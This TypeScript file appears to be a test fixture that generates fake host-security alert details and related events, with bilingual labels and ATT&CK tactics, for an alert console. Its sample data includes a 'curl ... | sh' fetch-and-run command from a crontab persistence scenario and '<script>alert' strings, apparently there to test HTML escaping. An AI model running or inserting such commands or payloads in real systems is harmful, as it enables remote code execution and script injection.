// One generated event in full, and those beside it.
import type {
  EventDetail,
  EventRelation,
  Field,
  Language,
  ParameterMap,
  RelatedEvents,
} from "../../src/wire/types";
import {
  assetOf,
  cell,
  idOf,
  levelOf,
  markOf,
  momentOf,
  nameOf,
  publicIp,
  rowNumber,
  statusOf,
  timeOf,
  typeOf,
} from "./events";

const IMAGE =
  "registry.example.com/shop/order:v1.4.2@sha256:3f5ad1b9c7e0f2d4a6b8c0e2f4a6b8d0c2e4f6a8b0d2c4e6f8a0b2d4c6e8f0a2";
const TACTICS: [string, string, string][] = [
  ["TA0043", "侦察", "Reconnaissance"],
  ["TA0001", "初始访问", "Initial Access"],
  ["TA0002", "执行", "Execution"],
  ["TA0003", "持久化", "Persistence"],
  ["TA0040", "影响", "Impact"],
];

const uuidOf = (row: number) => `uuid-of-${assetOf(row)}`;

/** Whether two events have this in common. */
function share(one: number, other: number, relation: EventRelation): boolean {
  if (relation === "container") return one % 33 === other % 33;
  return assetOf(one) === assetOf(other) && (relation === "asset" || one % 7 === other % 7);
}

export function relatedTo(
  id: string,
  relation: EventRelation,
  total: number,
  language: Language,
): RelatedEvents {
  const row = rowNumber(id);
  const others = Array.from({ length: total }, (_, other) => other).filter(
    (other) => other !== row && share(row, other, relation),
  );
  const nearest = [...others].sort((a, b) => Math.abs(a - row) - Math.abs(b - row)).slice(0, 20);
  return {
    others: others.length,
    nearest: nearest
      .sort((a, b) => a - b)
      .map((other) => ({
        key: { id: idOf(other), account: "1960721413480001" },
        level: levelOf(other).value,
        levelWords: levelOf(other)[language],
        title: cell(other, "name", language),
        statusWords: statusOf(other)[language],
        when: cell(other, "lastTime", language),
        at: timeOf(other),
      })),
    filter: relation === "asset" ? { Uuid: uuidOf(row) } : null,
  };
}

export function detailOf(row: number, language: Language): Omit<EventDetail, "review"> {
  const text = (zh: string, en: string) => (language === "zh" ? zh : en);
  const at = (column: string) => cell(row, column, language);
  const plain = (name: string, label: string, value: string): Field => ({
    name,
    label,
    value,
    at: null,
    filter: null,
  });
  const field = (name: string, label: string, filter: ParameterMap | null = null): Field => ({
    ...plain(name, label, at(name)),
    at: name.endsWith("Time") && at(name) !== "" ? momentOf(at(name)) : null,
    filter,
  });
  const raw = {
    Id: idOf(row),
    Name: nameOf(row)[0],
    Level: levelOf(row).value,
    EventStatus: Number(statusOf(row).value),
    LastTime: at("lastTime"),
    InternetIp: publicIp(row),
    Details: [{ NameDisplay: "路径", Value: "/etc/crontab", Type: "text" }],
    Desc: "<script>alert('x')</script>",
  };
  return {
    key: { id: idOf(row), account: "1960721413480001" },
    title: at("name"),
    level: levelOf(row).value,
    levelWords: levelOf(row)[language],
    statusWords: statusOf(row)[language],
    description: text(
      "检测到服务器上的计划任务执行了可疑指令，攻击者可能借此保持权限。请检查该计划任务，并确认是否为正常业务。<script>alert('x')</script>",
      "A scheduled task on the server ran a suspicious command; an attacker may use it to stay. Check the task and whether it belongs to normal work. <script>alert('x')</script>",
    ),
    event: [
      field("alarmEventType", text("告警类型", "Alert type"), { ParentEventTypes: typeOf(row).value }),
      field("eventSubType", text("告警名称", "Alert name"), { Name: at("name") }),
      field("level", text("风险等级", "Severity"), { Levels: levelOf(row).value }),
      field("status", text("状态", "Status"), { Status: statusOf(row).value }),
      field("lastTime", text("最近发生时间", "Last occurred")),
      field("occurrenceTime", text("首次发生时间", "First occurred")),
      field("operateErrorCode", text("处理结果", "Handling result")),
      field("operateTime", text("处理时间", "Handled at")),
      plain("alarmUniqueInfo", text("聚合告警标识", "Alarm key"), `alarm-${row % 7}`),
    ].filter((field) => field.value !== ""),
    asset: [
      field("instanceName", text("资产名称", "Asset name"), { Remark: at("instanceName") }),
      field("internetIp", text("公网 IP", "Public IP"), { Remark: at("internetIp") }),
      field("intranetIp", text("私网 IP", "Private IP"), { Remark: at("intranetIp") }),
      { ...plain("uuid", "UUID", uuidOf(row)), filter: { Uuid: uuidOf(row) } },
      field("groupName", text("资产组", "Asset group")),
    ],
    container:
      row % 3 === 0
        ? [
            {
              ...plain("namespace", text("命名空间", "Namespace"), "default"),
              filter: { ContainerFieldName: "namespace", ContainerFieldValue: "default" },
            },
            plain("containerId", text("容器 ID", "Container id"), `c-${row % 11}`),
            plain("image", text("镜像", "Image"), IMAGE),
          ]
        : [],
    details: [
      { name: text("文件路径", "File path"), value: "/etc/crontab" },
      {
        name: text("命令行", "Command line"),
        value: "curl -fsSL http://203.0.113.9/x.sh | sh\n<b>not bold</b>",
      },
      { name: "MD5", value: "d41d8cd98f00b204e9800998ecf8427e" },
    ],
    notes: [{ name: "2026-11-21 18:20:11", value: text("已联系业务方确认", "Owner was asked") }],
    tactics: [{ id: "TA0003", zh: "持久化", en: "Persistence", filter: { tactic: "TA0003" } }],
    attack: TACTICS.map(([id, zh, en]) => ({ id, zh, en, held: id === "TA0003" })),
    stages: ["authority_maintenance"],
    other: [
      plain("DataSource", "DataSource", "aegis_suspicious_event"),
      plain("CanBeDealOnLine", "CanBeDealOnLine", "true"),
    ],
    history: [
      {
        field: text("状态", "Status"),
        before: text("待处理", "Pending"),
        after: statusOf(row)[language],
        when: "2026-11-22 10:11:04",
        at: momentOf("2026-11-22 10:11:04"),
        run: 19,
      },
      {
        field: text("备注", "Note"),
        before: "",
        after: text("已联系业务方确认 <i>", "Owner was asked <i>"),
        when: "2026-11-21 18:20:30",
        at: momentOf("2026-11-21 18:20:30"),
        run: 15,
      },
    ],
    firstSeen: "2026-11-21 18:02:09",
    gone: markOf(row) === "gone" ? "2026-11-22 10:11:05" : null,
    raw: JSON.stringify(raw, null, 2),
    rawOtherLanguage: row % 2 === 0 ? JSON.stringify({ ...raw, Name: nameOf(row)[1] }, null, 2) : null,
  };
}
